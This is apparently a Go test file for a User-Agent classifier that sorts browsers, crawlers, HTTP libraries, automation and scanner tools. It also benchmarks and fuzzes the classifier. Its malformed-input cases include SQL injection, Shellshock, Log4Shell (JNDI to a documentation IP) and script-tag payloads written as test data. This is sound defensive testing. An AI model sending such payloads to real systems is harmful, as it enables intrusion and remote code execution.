package bot

import (
	"fmt"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/vigilhq/vigil/internal/detect"
	"github.com/vigilhq/vigil/internal/vigiltest"
)

// classifyCases feed TestClassify, FuzzClassify's seeds and the Classify benchmarks.
// The User-Agents are real (current browsers as of the microlink top-100, crawler UAs from
// their operators' documentation, library defaults); the expected classes were written
// from the strings, not from the classifier's output.
var classifyCases = []struct {
	name      string
	ua        string
	want      Class
	malformed bool
}{
	// Current browsers.
	{"browser_with_home_page", "Avant Browser/1.2.789rel1 (http://www.avantbrowser.com)", Class{}, false},
	{"crawler_calling_itself_browser", "Fake Browser/1.0 crawler (http://x.example)",
		Class{Kind: Crawler, Category: "other", Name: "crawler"}, false},
	{"chrome_windows", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/151.0.0.0 Safari/537.36",
		Class{Kind: Browser, Name: "chrome", Major: 151}, false},
	{"chrome_mac", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Safari/537.36",
		Class{Kind: Browser, Name: "chrome", Major: 150}, false},
	{"chrome_linux", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/149.0.0.0 Safari/537.36",
		Class{Kind: Browser, Name: "chrome", Major: 149}, false},
	{"chrome_chromeos", "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Safari/537.36",
		Class{Kind: Browser, Name: "chrome", Major: 150}, false},
	{"chrome_android", "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/151.0.0.0 Mobile Safari/537.36",
		Class{Kind: Browser, Name: "chrome", Major: 151, Mobile: true}, false},
	{"chrome_android_tablet", "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/151.0.0.0 Safari/537.36",
		Class{Kind: Browser, Name: "chrome", Major: 151}, false},
	{"chrome_ios", "Mozilla/5.0 (iPhone; CPU iPhone OS 26_6_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/151.0.7922.112 Mobile/15E148 Safari/604.1",
		Class{Kind: Browser, Name: "chrome", Major: 151, Mobile: true}, false},
	{"edge_windows", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/151.0.0.0 Safari/537.36 Edg/151.0.0.0",
		Class{Kind: Browser, Name: "edge", Major: 151}, false},
	{"edge_android", "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Mobile Safari/537.36 EdgA/150.0.0.0",
		Class{Kind: Browser, Name: "edge", Major: 150, Mobile: true}, false},
	{"firefox_windows", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:153.0) Gecko/20100101 Firefox/153.0",
		Class{Kind: Browser, Name: "firefox", Major: 153}, false},
	{"firefox_mac", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:153.0) Gecko/20100101 Firefox/153.0",
		Class{Kind: Browser, Name: "firefox", Major: 153}, false},
	{"firefox_android", "Mozilla/5.0 (Android 15; Mobile; rv:153.0) Gecko/153.0 Firefox/153.0",
		Class{Kind: Browser, Name: "firefox", Major: 153, Mobile: true}, false},
	{"firefox_ios", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/153.0 Mobile/15E148 Safari/605.1.15",
		Class{Kind: Browser, Name: "firefox", Major: 153, Mobile: true}, false},
	{"safari_mac", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.5 Safari/605.1.15",
		Class{Kind: Browser, Name: "safari", Major: 26}, false},
	{"safari_iphone", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.6 Mobile/15E148 Safari/604.1",
		Class{Kind: Browser, Name: "safari", Major: 26, Mobile: true}, false},
	{"safari_ipad", "Mozilla/5.0 (iPad; CPU OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.6 Mobile/15E148 Safari/604.1",
		Class{Kind: Browser, Name: "safari", Major: 26, Mobile: true}, false},
	{"ios_webview", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
		Class{Kind: Browser, Name: "webview", Mobile: true}, false},
	{"opera_windows", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/149.0.0.0 Safari/537.36 OPR/133.0.0.0",
		Class{Kind: Browser, Name: "opera", Major: 133}, false},
	{"samsung_internet", "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/30.0 Chrome/143.0.0.0 Mobile Safari/537.36",
		Class{Kind: Browser, Name: "samsung", Major: 30, Mobile: true}, false},
	{"yandex_browser", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/148.0.0.0 YaBrowser/26.6.0.0 Safari/537.36",
		Class{Kind: Browser, Name: "yabrowser", Major: 26}, false},
	{"android_webview", "Mozilla/5.0 (Linux; Android 13; SM-N981N Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/150.0.7871.181 Mobile Safari/537.36",
		Class{Kind: Browser, Name: "chrome", Major: 150, Mobile: true}, false},
	{"pixel_build_id", "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP3A.240617.008) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Mobile Safari/537.36",
		Class{Kind: Browser, Name: "chrome", Major: 150, Mobile: true}, false},
	{"device_name_cubot", "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
		Class{Kind: Browser, Name: "chrome", Major: 120, Mobile: true}, false},
	{"ie11", "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
		Class{Kind: Browser, Name: "ie", Major: 11}, false},

	// Crawlers that DNS can verify.
	{"googlebot", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		Class{Kind: Crawler, Category: "search", Name: "googlebot", Major: 2, Claimed: "google"}, false},
	{"googlebot_smartphone", "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.7632.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		Class{Kind: Crawler, Category: "search", Name: "googlebot", Major: 2, Mobile: true, Claimed: "google"}, false},
	{"googlebot_image", "Googlebot-Image/1.0",
		Class{Kind: Crawler, Category: "search", Name: "googlebot-image", Major: 1, Claimed: "google"}, false},
	{"bingbot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
		Class{Kind: Crawler, Category: "search", Name: "bingbot", Major: 2, Claimed: "bing"}, false},
	{"applebot", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
		Class{Kind: Crawler, Category: "search", Name: "applebot", Claimed: "apple"}, false},
	{"yandexbot", "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
		Class{Kind: Crawler, Category: "search", Name: "yandexbot", Major: 3, Claimed: "yandex"}, false},
	{"baiduspider", "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
		Class{Kind: Crawler, Category: "search", Name: "baiduspider", Major: 2, Claimed: "baidu"}, false},
	{"duckduckbot", "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
		Class{Kind: Crawler, Category: "search", Name: "duckduckbot", Major: 1, Claimed: "duckduckgo"}, false},
	{"gptbot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
		Class{Kind: Crawler, Category: "ai", Name: "gptbot", Major: 1, Claimed: "openai"}, false},

	// Crawlers known from the embedded patterns.
	{"claudebot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
		Class{Kind: Crawler, Category: "ai", Name: "claudebot", Major: 1}, false},
	{"ahrefsbot", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
		Class{Kind: Crawler, Category: "seo", Name: "ahrefs"}, false},
	{"mj12bot", "MJ12bot/v1.2.0 (http://majestic12.co.uk/bot.php?+)",
		Class{Kind: Crawler, Category: "seo", Name: "mj12bot", Major: 1}, false},
	{"facebookexternalhit", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
		Class{Kind: Crawler, Category: "social", Name: "facebookexternalhit", Major: 1}, false},
	{"uptimerobot", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
		Class{Kind: Crawler, Category: "monitor", Name: "uptimerobot", Major: 2}, false},
	{"lets_encrypt", "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)",
		Class{Kind: Crawler, Category: "scanner", Name: "lets-encrypt"}, false},
	{"censys", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
		Class{Kind: Crawler, Category: "scanner", Name: "censysinspect", Major: 1}, false},
	{"generic_bot", "Mozilla/5.0 (compatible; Zzyzxbot/1.0; +https://zzyzx.example/about)",
		Class{Kind: Crawler, Category: "other", Name: "zzyzxbot", Major: 1}, false},
	{"generic_bot_posing_as_chrome", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 (compatible; Quuxbot/0.3; +https://quux.example/bot)",
		Class{Kind: Crawler, Category: "other", Name: "quuxbot"}, false},
	{"generic_url_posing_as_safari", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15 Snapfetch (+https://snap.example/)",
		Class{Kind: Crawler, Category: "other", Name: "snapfetch"}, false},
	{"generic_contact_url", "Qwertyfetch/2.3 (+https://qwerty.example/about)",
		Class{Kind: Crawler, Category: "other", Name: "qwertyfetch", Major: 2}, false},

	// HTTP libraries and tools.
	{"curl", "curl/8.5.0", Class{Kind: Library, Category: "library", Name: "curl", Major: 8}, false},
	{"wget", "Wget/1.21.3", Class{Kind: Library, Category: "library", Name: "wget", Major: 1}, false},
	{"python_requests", "python-requests/2.32.3", Class{Kind: Library, Category: "library", Name: "python-requests", Major: 2}, false},
	{"python_urllib", "Python-urllib/3.11", Class{Kind: Library, Category: "library", Name: "python-urllib", Major: 3}, false},
	{"aiohttp", "Python/3.12 aiohttp/3.9.5", Class{Kind: Library, Category: "library", Name: "aiohttp", Major: 3}, false},
	{"httpx", "python-httpx/0.27.0", Class{Kind: Library, Category: "library", Name: "httpx"}, false},
	{"go_http_client", "Go-http-client/1.1", Class{Kind: Library, Category: "library", Name: "go-http-client", Major: 1}, false},
	{"go_http_client_h2", "Go-http-client/2.0", Class{Kind: Library, Category: "library", Name: "go-http-client", Major: 2}, false},
	{"okhttp", "okhttp/4.12.0", Class{Kind: Library, Category: "library", Name: "okhttp", Major: 4}, false},
	{"java", "Java/17.0.2", Class{Kind: Library, Category: "library", Name: "java", Major: 17}, false},
	{"apache_httpclient", "Apache-HttpClient/4.5.14 (Java/17.0.8)", Class{Kind: Library, Category: "library", Name: "apache-httpclient", Major: 4}, false},
	{"node_fetch", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", Class{Kind: Library, Category: "library", Name: "node-fetch", Major: 1}, false},
	{"undici", "undici", Class{Kind: Library, Category: "library", Name: "undici"}, false},
	{"node_builtin_fetch", "node", Class{Kind: Library, Category: "library", Name: "undici"}, false},
	{"axios", "axios/1.7.2", Class{Kind: Library, Category: "library", Name: "axios", Major: 1}, false},
	{"libwww_perl", "libwww-perl/6.72", Class{Kind: Library, Category: "library", Name: "libwww-perl", Major: 6}, false},
	{"powershell", "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.1",
		Class{Kind: Library, Category: "library", Name: "powershell", Major: 7}, false},

	// Driven browsers.
	{"headless_chrome", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/156.0.0.0 Safari/537.36",
		Class{Kind: Automation, Category: "automation", Name: "headless-chrome", Major: 156}, false},
	{"phantomjs", "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
		Class{Kind: Automation, Category: "automation", Name: "phantomjs", Major: 2}, false},

	// Attack tools.
	{"sqlmap", "sqlmap/1.8.2#stable (https://sqlmap.org)", Class{Kind: Scanner, Category: "scanner", Name: "sqlmap", Major: 1}, false},
	{"nikto", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", Class{Kind: Scanner, Category: "scanner", Name: "nikto", Major: 2}, false},
	{"nuclei", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", Class{Kind: Scanner, Category: "scanner", Name: "nuclei"}, false},
	{"masscan", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", Class{Kind: Scanner, Category: "scanner", Name: "masscan", Major: 1}, false},
	{"wpscan", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", Class{Kind: Scanner, Category: "scanner", Name: "wpscan"}, false},
	{"nmap", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", Class{Kind: Scanner, Category: "scanner", Name: "nmap"}, false},

	// Unknown and malformed.
	{"empty", "", Class{}, false},
	{"unknown_app", "MyApp/1.0", Class{}, false},
	{"truncated_mozilla", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", Class{}, false},
	{"sql_injection", "' OR 1=1 --", Class{}, true},
	{"shellshock", "() { :; }; /bin/bash -c 'id'", Class{}, true},
	{"log4shell", "${jndi:ldap://198.51.100.7/a}", Class{}, true},
	{"script_tag", "Mozilla/5.0 <script>alert(1)</script>", Class{}, true},
	{"control_char", "Mozilla/5.0 (X11)\x01", Class{}, true},
	{"too_long", "Mozilla/5.0 " + strings.Repeat("x", 1100), Class{}, true},
}

func TestClassify(t *testing.T) {
	d := newTestDetector(t)
	for _, tc := range classifyCases {
		t.Run(tc.name, func(t *testing.T) {
			got := d.Classify(tc.ua)
			if diff := cmp.Diff(tc.want, got, cmpopts.IgnoreUnexported(Class{})); diff != "" {
				t.Errorf("Classify(%q) mismatch (-want +got):\n%s", tc.ua, diff)
			}
			if m := got.flags&flagMalformed != 0; m != tc.malformed {
				t.Errorf("Classify(%q) malformed = %v, want %v", tc.ua, m, tc.malformed)
			}
			if again := d.Classify(tc.ua); again != got {
				t.Errorf("cached Classify(%q) = %+v, first %+v", tc.ua, again, got)
			}
		})
	}
}

func TestKindString(t *testing.T) {
	want := []string{"unknown", "browser", "crawler", "library", "automation", "scanner", "kind(6)"}
	for k, w := range want {
		if got := Kind(k).String(); got != w {
			t.Errorf("Kind(%d).String() = %q, want %q", k, got, w)
		}
	}
}

// TestEmbeddedPatterns checks the vendored data: RE2 compiles (nearly) all patterns, each
// has a literal for the prefilter or is one of very few that always run, and every
// pattern matches its own examples under RE2.
func TestEmbeddedPatterns(t *testing.T) {
	d := newTestDetector(t)
	rs := d.rules
	if n := len(rs.patterns) + rs.skipped; n < 1400 {
		t.Errorf("%d patterns embedded, want the ~1,500 of crawler-user-agents 1.60.0", n)
	}
	if rs.skipped > 5 {
		t.Errorf("RE2 rejected %d patterns, want at most 5", rs.skipped)
	}
	if len(rs.always) > 10 {
		t.Errorf("%d patterns have no literal and run on every scan, want at most 10", len(rs.always))
	}
	es := embeddedEntries(t)
	bad := 0
	for _, e := range es {
		id := rs.patternFor(e.Pattern)
		if id < 0 {
			continue
		}
		for _, in := range e.Instances {
			if !rs.match(id, in) {
				bad++
				t.Logf("pattern %q does not match its example %q under RE2", e.Pattern, in)
			}
		}
	}
	if bad > 0 {
		t.Errorf("%d examples not matched by their own pattern", bad)
	}
}

// TestPrefilterExact checks that the literal prefilter never changes which pattern
// matches: for every example in the embedded data, the first matching pattern found
// through the Aho–Corasick scan equals the first found by running every regex.
func TestPrefilterExact(t *testing.T) {
	d := newTestDetector(t)
	rs := d.rules
	uas := []string{}
	for _, e := range embeddedEntries(t) {
		uas = append(uas, e.Instances...)
	}
	for _, tc := range classifyCases {
		uas = append(uas, tc.ua)
	}
	for _, ua := range uas {
		if ua == "" {
			continue
		}
		hits := make([]uint64, rs.words)
		rs.m.scan(ua, hits)
		for _, group := range []Kind{Crawler, Library} {
			got, gotOK := rs.firstPattern(ua, hits, group)
			want, wantOK := rs.bruteFirstPattern(ua, group)
			if gotOK != wantOK || got != want {
				t.Errorf("%q group %v: prefilter %+v %v, brute force %+v %v", ua, group, got, gotOK, want, wantOK)
			}
		}
	}
}

func (rs *rules) bruteFirstPattern(ua string, group Kind) (Class, bool) {
	for i := range rs.patterns {
		if (rs.patterns[i].kind == Library) == (group == Library) && rs.match(i, ua) {
			return rs.patternClass(ua, i), true
		}
	}
	return Class{}, false
}

// patternFor returns the id of the pattern expr, or -1.
func (rs *rules) patternFor(expr string) int {
	for i := range rs.patterns {
		if rs.str(rs.patterns[i].expr) == expr {
			return i
		}
	}
	return -1
}

func TestRequiredLiterals(t *testing.T) {
	cases := []struct {
		name, pattern string
		want          []string
	}{
		{"plain", "Googlebot\\/", []string{"googlebo"}},
		{"case_class", "[wW]get", []string{"wget"}},
		{"alternation_after_prefix", "Ahrefs(Bot|SiteAudit)", []string{"ahrefs"}},
		{"alternation", "Automaton|Newsify Feed Fetcher", []string{"automato", "newsify "}},
		{"anchored", "^curl", []string{"curl"}},
		{"classes_inside", "S[eE][mM]rushBot", []string{"semrushb"}},
		{"wildcard_between", "Spider[\\s\\S]*spider\\.com", []string{"spider.c"}},
		{"fold_case_k_s", "(?i)kiss", nil},
		{"too_short", "^BW", nil},
		{"short_enough", "^BW\\/", []string{"bw/"}},
		{"nothing_required", "a?b*", nil},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, requiredLiterals(tc.pattern)); diff != "" {
				t.Errorf("requiredLiterals(%q) (-want +got):\n%s", tc.pattern, diff)
			}
		})
	}
}

func TestPatternName(t *testing.T) {
	cases := map[string]string{
		"Googlebot\\/":                   "googlebot",
		"[wW]get":                        "wget",
		"Ahrefs(Bot|SiteAudit)":          "ahrefs",
		"Mediapartners \\(Googlebot\\)":  "mediapartners-googlebot",
		"yandex\\.com\\/bots":            "yandex.com-bots",
		"Let's Encrypt":                  "lets-encrypt",
		"(^| )sentry\\/":                 "sentry",
		"[a-z]+":                         "other",
		"Spider[\\s\\S]*spider\\.com":    "spider.com",
		"Automaton|Newsify Feed Fetcher": "automaton",
	}
	for p, want := range cases {
		if got := patternName(p); got != want {
			t.Errorf("patternName(%q) = %q, want %q", p, got, want)
		}
	}
}

// TestCacheBounded sprays distinct User-Agents and checks that the cache never holds
// more than CacheSize of them and still answers correctly.
func TestCacheBounded(t *testing.T) {
	for _, size := range []int{1, 7, 64, 1000} {
		t.Run(fmt.Sprint(size), func(t *testing.T) {
			d, err := New(Config{CacheSize: size})
			if err != nil {
				t.Fatal(err)
			}
			for i := range 5 * size {
				ua := fmt.Sprintf("curl/%d.0", i)
				if c := d.Classify(ua); c.Name != "curl" || c.Major != i {
					t.Fatalf("Classify(%q) = %+v", ua, c)
				}
				if n := d.cached(); n > size {
					t.Fatalf("cache holds %d entries after %d inserts, CacheSize %d", n, i+1, size)
				}
			}
			if n := d.cached(); n != size {
				t.Errorf("cache holds %d entries, want it full at %d", n, size)
			}
		})
	}
}

func TestClassifyConcurrent(t *testing.T) {
	d, err := New(Config{CacheSize: 16})
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for g := range 8 {
		wg.Go(func() {
			for i := range 200 {
				tc := classifyCases[(g*31+i)%len(classifyCases)]
				got := d.Classify(tc.ua)
				if got.Kind != tc.want.Kind || got.Name != tc.want.Name {
					t.Errorf("Classify(%q) = %+v, want %+v", tc.ua, got, tc.want)
					return
				}
			}
		})
	}
	wg.Wait()
}

func TestNewRejectsNegative(t *testing.T) {
	for _, cfg := range []Config{{CacheSize: -1}, {MaxPending: -1}, {VerifyTimeout: -1}, {VerifyTTL: -1}} {
		if _, err := New(cfg); err == nil {
			t.Errorf("New(%+v) succeeded, want an error", cfg)
		}
	}
}

func TestAllocs(t *testing.T) {
	d := newTestDetector(t)
	ua := classifyCases[0].ua
	d.Classify(ua)
	if n := vigiltest.AllocsPerRun(100, func() { d.Classify(ua) }); n != 0 {
		t.Errorf("Classify cache hit: %v allocs, want 0", n)
	}
	r := inspectCases[0].request()
	c := d.Classify(r.UserAgent())
	dst := make([]detect.Finding, 0, 8)
	if n := vigiltest.AllocsPerRun(100, func() { dst = d.InspectRequest(dst[:0], r, c) }); n != 0 {
		t.Errorf("Inspect on a consistent Chrome request: %v allocs, want 0", n)
	}
	if len(dst) != 0 {
		t.Errorf("Inspect on a consistent Chrome request: %+v, want no findings", dst)
	}
}

// FuzzClassify checks that Classify never panics, is deterministic, agrees with the
// uncached classifier, and returns a coherent Class.
func FuzzClassify(f *testing.F) {
	for _, tc := range classifyCases {
		f.Add(tc.ua)
	}
	d, err := New(Config{CacheSize: 64})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, ua string) {
		got := d.Classify(ua)
		if again := d.Classify(ua); again != got {
			t.Fatalf("Classify(%q) not deterministic: %+v then %+v", ua, got, again)
		}
		key := ua
		if len(key) > maxUALen+1 {
			key = key[:maxUALen+1]
		}
		if key != "" {
			if direct := d.rules.classify(key); direct != got {
				t.Fatalf("Classify(%q) = %+v, uncached %+v", ua, got, direct)
			}
		}
		switch {
		case got.Kind > Scanner:
			t.Fatalf("Classify(%q): kind %d out of range", ua, got.Kind)
		case got.Kind == Browser && (got.Category != "" || got.Claimed != "" || got.Name == ""):
			t.Fatalf("Classify(%q): incoherent browser %+v", ua, got)
		case got.Kind == Unknown && (got.Name != "" || got.Category != ""):
			t.Fatalf("Classify(%q): named unknown %+v", ua, got)
		case got.Kind > Browser && (got.Category == "" || got.Name == ""):
			t.Fatalf("Classify(%q): non-browser without category or name %+v", ua, got)
		case got.Claimed != "" && got.Kind != Crawler:
			t.Fatalf("Classify(%q): claim on a %v", ua, got.Kind)
		case got.Major < 0:
			t.Fatalf("Classify(%q): negative major %d", ua, got.Major)
		case !utf8.ValidString(got.Name) && utf8.ValidString(ua):
			t.Fatalf("Classify(%q): invalid UTF-8 name %q", ua, got.Name)
		}
		if len(ua) > maxUALen && got.flags&flagMalformed == 0 {
			t.Fatalf("Classify of %d bytes not malformed", len(ua))
		}
	})
}

func BenchmarkClassify(b *testing.B) {
	d := newTestDetector(b)
	for _, tc := range classifyCases {
		if tc.ua == "" {
			continue
		}
		b.Run("hit/"+tc.name, func(b *testing.B) {
			d.Classify(tc.ua)
			b.ReportAllocs()
			for b.Loop() {
				d.Classify(tc.ua)
			}
		})
		b.Run("miss/"+tc.name, func(b *testing.B) {
			b.ReportAllocs()
			key := tc.ua[:min(len(tc.ua), maxUALen+1)]
			for b.Loop() {
				d.rules.classify(key)
			}
		})
	}
}

// BenchmarkClassifySpray measures misses through the cache: every call is a new string,
// so each pays classification, insertion and eviction.
func BenchmarkClassifySpray(b *testing.B) {
	d := newTestDetector(b)
	uas := make([]string, 1<<16)
	for i := range uas {
		tc := classifyCases[i%len(classifyCases)]
		uas[i] = fmt.Sprintf("%s %d", tc.ua, i)
	}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		d.Classify(uas[i%len(uas)])
		i++
	}
}

func BenchmarkClassifyParallel(b *testing.B) {
	d := newTestDetector(b)
	for _, tc := range classifyCases {
		d.Classify(tc.ua)
	}
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		i := 0
		for pb.Next() {
			d.Classify(classifyCases[i%len(classifyCases)].ua)
			i++
		}
	})
}

func TestClassOS(t *testing.T) {
	d := newTestDetector(t)
	for ua, want := range map[string]string{
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1": "ios",
		"Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1":                 "ios",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36":                                "",
		"curl/8.5.0": "",
	} {
		if got := d.Classify(ua).OS(); got != want {
			t.Errorf("Classify(%q).OS() = %q, want %q", ua, got, want)
		}
	}
}

// blank answers as strings.TrimSpace(v) == "" does, Unicode spaces included.
func TestBlank(t *testing.T) {
	for _, v := range []string{"", " ", "\t\r\n ", "\u00a0", "\u2003 \u00a0", "x", " x", "\u00a0x", "x ", "\x7f", "é", "\x00"} {
		if got, want := blank(v), strings.TrimSpace(v) == ""; got != want {
			t.Errorf("blank(%q) = %v, want %v", v, got, want)
		}
	}
}
